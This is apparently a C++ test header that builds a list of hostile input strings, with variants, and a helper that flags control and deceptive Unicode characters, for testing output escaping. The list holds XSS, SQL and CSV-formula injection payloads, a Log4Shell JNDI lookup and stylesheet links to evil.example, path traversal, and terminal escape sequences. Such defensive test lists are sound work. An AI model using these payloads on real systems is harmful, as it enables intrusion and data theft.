// Texts meant to harm their reader: markup, terminal codes, writing that turns round,
// formulas, long ones, bytes that are no UTF-8. In hostileStrings() each stands alone and within other text.
#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace tcpscope::test {

inline std::vector<std::string> hostileStringsAlone() {
  using namespace std::string_literals;
  return {"<script>alert(1)</script>",
          "</p><img src=x onerror=alert(1)>",
          "</title><svg onload=alert(1)>",
          "</style><link rel=stylesheet href=//evil.example/x>",
          "<!-- ",
          "]]>",
          "<iframe src=javascript:alert(1)>",
          "\" onmouseover=\"alert(1)",
          "' style='x",
          "&lt;b&gt;",
          "&#60;script&#62;",
          "<a href=data:text/html,x>x</a>",
          "<meta http-equiv=refresh content=0>",
          "</pre></dl></table></main></body></html>",
          "<base href=//evil.example/>",
          "url(javascript:alert(1))",
          "}</style>*{background:url(//evil.example/)}",
          "<?php system('id'); ?>",
          "{{7*7}}",
          "${jndi:ldap://evil.example/a}",
          "\x1b[2J\x1b[H",
          "\x1b]0;owned\x07",
          "\x1b]8;;http://evil.example\x07x",
          "\x1bP1$r\x1b\\",
          "\x9b"
          "31m",
          "\xc2\x9b"
          "31m",
          "a\rb",
          "a\nb\n\n<b>",
          "\t=1+1",
          "\b\b\b\b",
          "\x7f\x7f",
          "bell\x07",
          "\0zero"s,
          "\xe2\x80\xae"
          "gnp.exe",
          "\xe2\x81\xa6"
          "abc"
          "\xe2\x81\xa9",
          "\xd8\x9c",
          "\xe2\x80\x8b",
          "\xef\xbb\xbf",
          "\xf3\xa0\x81\x81",
          "\xe2\x80\xa8",
          "=cmd|'/c calc'!A0",
          "+1+1",
          "-2+3",
          "@SUM(A1:A9)",
          "=HYPERLINK(\"http://evil.example\",\"x\")",
          "\"\"\"",
          "a,b;c\"d",
          "\\\"},{\"x\":\"",
          "\\u0000",
          "\\",
          "'; DROP TABLE x;--",
          "../../etc/passwd",
          "(\\051) Tj ET /JS (app.alert)",
          "endstream endobj",
          "%%EOF",
          "\xff\xfe",
          "\xc0\xaf",
          "\xed\xa0\x80",
          "\xf4\x90\x80\x80",
          "\xe2\x82",
          "\x80\x81\x82",
          std::string(5000, 'A'),
          std::string(3000, '<'),
          std::string(2000, '\xff'),
          "a\xcc\x81\xcc\x81\xcc\x81\xcc\x81\xcc\x81"};
}

inline std::vector<std::string> hostileStrings() {
  std::vector<std::string> all;
  for (const std::string& seed : hostileStringsAlone()) {
    all.push_back(seed);
    all.push_back("nginx" + seed);
    all.push_back(seed + seed + " worker");
    all.push_back("\"'" + seed + "\xff");
  }
  return all;
}

/// What must not be in any text that people or programs read: controls, and characters that deceive.
inline std::string harmIn(std::string_view text) {
  for (const char character : text) {
    const auto byte = static_cast<unsigned char>(character);
    if ((byte < 0x20 && byte != '\n' && byte != '\f') || byte == 0x7f) return "a control character";
  }
  for (const std::string_view bytes : {"\xe2\x80\xae", "\xe2\x81\xa6", "\xe2\x81\xa9", "\xd8\x9c", "\xe2\x80\x8b",
                                       "\xef\xbb\xbf", "\xf3\xa0\x81\x81", "\xe2\x80\xa8", "\xc2\x9b"}) {
    if (text.find(bytes) != std::string_view::npos) return "a deceptive character";
  }
  return {};
}

}  // namespace tcpscope::test
